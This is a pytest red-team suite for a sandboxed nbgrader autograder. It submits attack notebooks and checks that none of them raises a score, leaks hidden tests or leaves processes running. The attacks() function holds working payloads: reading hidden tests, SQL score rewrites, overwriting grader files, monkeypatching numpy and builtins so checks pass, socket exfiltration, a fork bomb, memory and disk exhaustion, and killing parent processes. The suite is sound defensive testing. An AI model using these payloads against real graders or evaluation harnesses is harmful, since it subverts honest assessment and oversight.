"""A red-team class: honest students and one submission per attack, graded together in one run.

The attacks are those of issue 10 (and its item 5): read the course's sources and gradebook,
write the checks, the config and other students' files, rewrite scores with SQL, send hidden
tests over a loopback TCP connection the test listens on, monkeypatch builtins, numpy, runpy,
IPython's input transformers, the checks and the protocol, kill the grader's parent, fork and
``setsid``, allocate 10 GiB, fill the disk, print without end, loop forever, exit. Each attacker
answers like an honest student otherwise (a wrong ``softmax``, a right temperature: 2 of 5
points, or the 04_gradient equivalent), so "no attacker scores above its honest score" means
no attacker scores above what its answers are worth.

Asserted: every honest student's grade equals the grade it gets when graded alone; no attacker
gets more than its answers are worth; no canary or hidden-test text is in any feedback, in the
grader's output or in grades.csv; every submission has its CSV row and gradebook entry; the
course's files are unchanged; the listener got no connection; no process of the run is left.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from test_exercises import (CANARY, EXERCISES, MUTATIONS, SOURCE, answers, source_notebook, submission,
                            total_points)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1800),  # the module fixture grades two classes
              pytest.mark.skipif(shutil.which("bwrap") is None and not os.environ.get("CI"),
                                 reason="bubblewrap (bwrap) is not installed (in CI it must be)")]

#: Small limits, so that the attacks cost seconds; every honest submission runs well within them.
LIMITS = ("--cell-timeout", "8", "--notebook-timeout", "60", "--memory-mb", "1024", "--cpu-seconds", "20",
          "--output-limit-kb", "512")
#: A marker in the argv of every process an attacker leaves behind, to find them afterwards.
MARKER = "987654"

WRONG_SOFTMAX = next(m for m in MUTATIONS if m["answer"] == "softmax")["source"]
WRONG_COST = next(m for m in MUTATIONS if m["answer"] == "cost_and_gradient")["source"]


def attacks(course: Path, port: int) -> dict[str, tuple[str, str]]:
    """``name: (assignment, code put before the attacker's answer)``; each can see the course's path."""
    c = str(course)
    guarded = lambda code: "try:\n" + "".join(f"    {line}\n" for line in code.splitlines()) + \
        "except BaseException as _e:\n    print('attack failed:', type(_e).__name__)\n"  # noqa: E731
    return {
        "attack-read-source": ("01_modeling", guarded(f"""
import glob, os, sqlite3
found = glob.glob('../../../source/**/*.ipynb', recursive=True) + glob.glob('{c}/source/**/*.ipynb', recursive=True)
found += glob.glob('/*/source/*/*.ipynb') + glob.glob('/tmp/**/source/*/*.ipynb', recursive=True)
print(os.listdir('{c}'))
for f in found:
    print(open(f).read())
rows = sqlite3.connect('{c}/gradebook.db').execute('SELECT source FROM source_cell').fetchall()
print(rows)""")),
        "attack-write-checks": ("01_modeling", guarded(f"""
import os
open('{c}/autograde_checks.py', 'a').write('\\nassert_close = lambda *a, **k: None\\n')
os.makedirs('{c}/autograded/attack-write-checks/01_modeling', exist_ok=True)
open('{c}/autograded/attack-write-checks/autograde_checks.py', 'w').write('assert_close = lambda *a, **k: None')
open('{c}/nbgrader_config.py', 'a').write('\\nc.GenerateFeedback.preprocessors = []\\n')""")),
        "attack-modify-others": ("01_modeling", guarded(f"""
import glob
for f in glob.glob('{c}/submitted/honest-*/*/*.ipynb'):
    open(f, 'w').write('{{}}')""")),
        "attack-gradebook-sql": ("01_modeling", guarded(f"""
import sqlite3
db = sqlite3.connect('{c}/gradebook.db')
db.execute('UPDATE grade SET manual_score = 0')
db.execute("UPDATE grade SET manual_score = 5")
db.commit()""")),
        "attack-network": ("01_modeling", guarded(f"""
import socket, glob
s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
s.sendall(b'hello from the sandbox ' + str(glob.glob('{c}/source/*/*')).encode())""")),
        "attack-builtins": ("01_modeling", guarded("""
import builtins
builtins.zip = lambda *a: iter(())
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: object
builtins.float = lambda *a: 0.0""")),
        "attack-numpy-runpy": ("01_modeling", guarded("""
import numpy, runpy, math, types, sys
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
fake = dict(assert_close=lambda *a, **k: None, assert_scalar_close=lambda *a, **k: None,
            check_array=lambda *a, **k: None, assert_own_code=lambda *a, **k: None,
            reference=lambda name: (lambda *a, **k: None), numpy=numpy)
runpy.run_path = lambda *a, **k: fake
sys.modules['autograde_checks'] = types.SimpleNamespace(**fake)""")),
        "attack-ipython-hooks": ("01_modeling", guarded("""
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])
ip.events.register('pre_run_cell', lambda *a: None)""")),
        "attack-protocol": ("01_modeling", guarded("""
import os, json
for fd in range(3, 64):
    try:
        os.write(fd, b'{"ok": true, "value": 1.0}\\n')
    except OSError:
        pass
json.dumps = lambda *a, **k: '{"ok": true, "value": {"ndarray": [1.0], "dtype": "float64", "shape": [1]}}'""")),
        "attack-kill-parent": ("01_modeling", """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""),
        "attack-setsid": ("01_modeling", guarded(f"""
import subprocess, os
subprocess.Popen(['setsid', 'sleep', '{MARKER}'])
if os.fork() == 0:
    os.setsid()
    os.execvp('sleep', ['sleep', '{MARKER}.5'])""")),
        "attack-fork-bomb": ("01_modeling", guarded("""
import os
for _ in range(200):
    if os.fork() == 0:
        import time
        time.sleep(60)
        os._exit(0)""")),
        "attack-memory": ("01_modeling", "import numpy\nhog = numpy.ones(10 * 1024**3 // 8)\n"),
        "attack-disk": ("01_modeling", guarded("""
with open('fill', 'wb') as f:
    for _ in range(1024):
        f.write(b'0' * 1024**2)""")),
        "attack-output-flood": ("01_modeling", """
import sys
while True:
    sys.stdout.write('x' * 65536)
"""),
        "attack-endless-loop": ("01_modeling", "while True:\n    pass\n"),
        "attack-exit": ("01_modeling", "import os\nos._exit(0)\n"),
        # 04_gradient: the cost functions are absent, even by path; the checks are not in the sandbox
        "attack-library-by-path": ("04_gradient", guarded("""
import lecture_lib, os
path = os.path.join(os.path.dirname(lecture_lib.__file__), 'gradients.py')
namespace = {}
exec(compile(open(path).read(), path, 'exec'), namespace)
cost_and_gradient = namespace['softmax_regression_cost_and_gradient']""")),
        "attack-patch-library": ("04_gradient", guarded("""
import lecture_lib, lecture_lib.functions
from lecture_lib import softmax_regression_cost_and_gradient as cg
lecture_lib.softmax = lambda *a, **k: 0.0
lecture_lib.functions.log_softmax = lambda *a, **k: 0.0""")),
    }


#: What each attacker's answers are worth without the attack (a wrong first part).
HONEST_VALUE = {"01_modeling": total_points("01_modeling", without="softmax-tests"),
                "04_gradient": total_points("04_gradient", without="cost_and_gradient-tests")}


def honest_class(release: dict) -> dict[str, tuple[str, nbformat.NotebookNode]]:
    out = {}
    for assignment in ("01_modeling", "04_gradient"):
        _, source_nb = source_notebook(assignment)
        solved = answers(source_nb)
        out[f"honest-solved-{assignment[:2]}"] = (assignment, submission(release[assignment], solved))
    _, source_nb = source_notebook("01_modeling")
    out["honest-wrong-softmax"] = ("01_modeling", submission(release["01_modeling"], answers(source_nb),
                                                             {"softmax": WRONG_SOFTMAX}))
    out["honest-blank"] = ("01_modeling", release["01_modeling"])
    return out


def make_course(path: Path) -> Path:
    path.mkdir(parents=True)
    for name in ("nbgrader_config.py", "autograde_checks.py"):
        shutil.copy(EXERCISES / name, path / name)
    shutil.copytree(SOURCE, path / "source", ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    return path


def instructor(course: Path, *args: str, timeout: int = 900) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(EXERCISES / "instructor.py"), *args, "--course", str(course)],
                          capture_output=True, text=True, timeout=timeout)


def put(course: Path, students: dict[str, tuple[str, nbformat.NotebookNode]]) -> None:
    for student, (assignment, nb) in students.items():
        name, _ = source_notebook(assignment)
        folder = course / "submitted" / student / assignment
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{name}.ipynb")
        (folder / "timestamp.txt").write_text("2026-12-01 12:00:00.000000 UTC")


def scores(course: Path) -> dict[tuple[str, str], float | None]:
    """The score of every row of grades.csv; None where nothing was submitted (an empty cell)."""
    with open(course / "grades.csv", newline="") as f:
        return {(r["student_id"], r["assignment"]): float(r["score"]) if r["score"] else None
                for r in csv.DictReader(f)}


def digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def secrets() -> list[str]:
    """The canary and every distinctive hidden-test line of the sources."""
    found, visible = {CANARY}, []
    blocks = []
    for path in sorted(SOURCE.glob("*/*.ipynb")):
        for cell in nbformat.read(path, 4).cells:
            blocks += re.findall(r"### BEGIN HIDDEN TESTS(.*?)### END HIDDEN TESTS", cell.source, re.S)
            visible.append(re.sub(r"### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS", "", cell.source, flags=re.S))
    text = "\n".join(visible)
    found |= {line.strip() for block in blocks for line in block.splitlines()
              if len(line.strip()) >= 16 and line.strip() not in text}
    return sorted(found)


def processes_mentioning(*needles: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if any(n in cmdline for n in needles):
                found.append(f"{entry.name}: {cmdline[:200]}")
    return found


@pytest.fixture(scope="module")
def red_team(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("redteam")
    course = make_course(tmp / "course")
    released = instructor(course, "release", "01_modeling", "04_gradient")
    assert released.returncode == 0, released.stdout + released.stderr
    release = {}
    for assignment in ("01_modeling", "04_gradient"):
        name, _ = source_notebook(assignment)
        release[assignment] = nbformat.read(course / "release" / assignment / f"{name}.ipynb", 4)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    received, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except (TimeoutError, OSError):
                continue
            received.append(connection.recv(65536))
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()

    honest = honest_class(release)
    attackers = {}
    for student, (assignment, code) in attacks(course, port).items():
        _, source_nb = source_notebook(assignment)
        solved = answers(source_nb)
        if assignment == "01_modeling":
            attackers[student] = (assignment, submission(release[assignment], solved, {"softmax": code + "\n" + WRONG_SOFTMAX}))
        else:
            attackers[student] = (assignment, submission(release[assignment], solved,
                                                         {"cost_and_gradient": WRONG_COST + "\n" + code}))
    put(course, {**honest, **attackers})
    before = digest(course / "source") | {f"../{n}": hashlib.sha256((course / n).read_bytes()).hexdigest()
                                          for n in ("nbgrader_config.py", "autograde_checks.py")}
    honest_files = digest(course / "submitted")

    # Each honest student alone, in a course of its own (graded concurrently with each other).
    alone = {}
    running = []
    for student, entry in honest.items():
        own = make_course(tmp / f"alone-{student}")
        put(own, {student: entry})
        running.append((student, own, subprocess.Popen(
            [sys.executable, str(EXERCISES / "instructor.py"), "grade", entry[0], "--course", str(own), *LIMITS,
             "--jobs", "1"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)))
    for student, own, process in running:
        output, _ = process.communicate(timeout=900)
        assert process.returncode == 0, output
        alone[student] = scores(own)[student, honest[student][0]]

    start = time.monotonic()
    graded = instructor(course, "grade", "01_modeling", "04_gradient", *LIMITS, "--jobs", "2")
    seconds = time.monotonic() - start
    stop.set()
    thread.join()
    listener.close()
    time.sleep(0.5)  # the kernel tears a PID namespace down right after its init dies
    leftovers = processes_mentioning(MARKER, str(course))
    after = digest(course / "source") | {f"../{n}": hashlib.sha256((course / n).read_bytes()).hexdigest()
                                         for n in ("nbgrader_config.py", "autograde_checks.py")}
    return dict(course=course, graded=graded, seconds=seconds, honest=honest, attackers=attackers, alone=alone,
                received=received, leftovers=leftovers, before=before, after=after, honest_files=honest_files)


def test_the_run_finishes_and_reports_the_attacks(red_team):
    graded = red_team["graded"]
    assert graded.returncode == 3, graded.stdout[-3000:] + graded.stderr[-3000:]
    listed = set(re.findall(r"^  (\S+) (\S+)  \(submitted/", graded.stdout, re.M))
    print(graded.stdout[-5000:])
    for student in ("attack-output-flood", "attack-endless-loop", "attack-exit", "attack-memory"):
        assert (student, "01_modeling") in listed, graded.stdout[-3000:]
    assert not any(s.startswith("honest-") for s, _ in listed)


def test_honest_students_get_their_grade_alone(red_team):
    got = scores(red_team["course"])
    for student, (assignment, _) in red_team["honest"].items():
        assert got[student, assignment] == red_team["alone"][student], student
    assert red_team["alone"]["honest-solved-01"] == total_points("01_modeling")
    assert red_team["alone"]["honest-solved-04"] == total_points("04_gradient")
    assert red_team["alone"]["honest-wrong-softmax"] == HONEST_VALUE["01_modeling"]
    assert red_team["alone"]["honest-blank"] == 0.0


def test_no_attacker_scores_above_its_answers(red_team):
    got = scores(red_team["course"])
    for student, (assignment, _) in red_team["attackers"].items():
        assert got[student, assignment] <= HONEST_VALUE[assignment], student


def test_every_student_has_its_rows(red_team):
    from nbgrader.api import Gradebook

    got = scores(red_team["course"])
    everyone = {**red_team["honest"], **red_team["attackers"]}
    submitted = {(s, a) for s, (a, _) in everyone.items()}
    assert submitted <= set(got)
    assert all(score is None for key, score in got.items() if key not in submitted)  # no submission: an empty cell
    with Gradebook(f"sqlite:///{red_team['course'] / 'gradebook.db'}", "softmax-regression") as gb:
        for student, (assignment, _) in everyone.items():
            sub = gb.find_submission(assignment, student)
            assert all(g.auto_score is not None for nb in sub.notebooks for g in nb.grades)
            assert all(g.manual_score is None for nb in sub.notebooks for g in nb.grades)  # no SQL UPDATE
            listed = student in red_team["graded"].stdout.split("need attention")[-1]
            assert all(nb.flagged == listed for nb in sub.notebooks), student  # flagged: what needs attention


def test_nothing_leaks_into_feedback_output_or_csv(red_team):
    course = red_team["course"]
    texts = {"stdout": red_team["graded"].stdout, "stderr": red_team["graded"].stderr,
             "grades.csv": (course / "grades.csv").read_text()}
    pages = sorted((course / "feedback").glob("*/*/*.html"))
    assert len(pages) >= len(red_team["honest"])
    texts |= {str(p.relative_to(course)): p.read_text() for p in pages}
    for name, text in texts.items():
        shown = re.sub(r"<[^>]+>", "", text).replace("&quot;", '"').replace("&#39;", "'").replace("&lt;", "<") \
            .replace("&gt;", ">").replace("&amp;", "&")
        for secret in secrets():
            assert secret not in text and secret not in shown, f"{secret!r} in {name}"


def test_the_course_and_the_network_are_untouched(red_team):
    assert red_team["after"] == red_team["before"]
    assert digest(red_team["course"] / "submitted") == red_team["honest_files"]
    assert not (red_team["course"] / "autograded" / "attack-write-checks" / "autograde_checks.py").exists()
    assert red_team["received"] == []


def test_no_process_of_the_run_is_left(red_team):
    assert red_team["leftovers"] == []
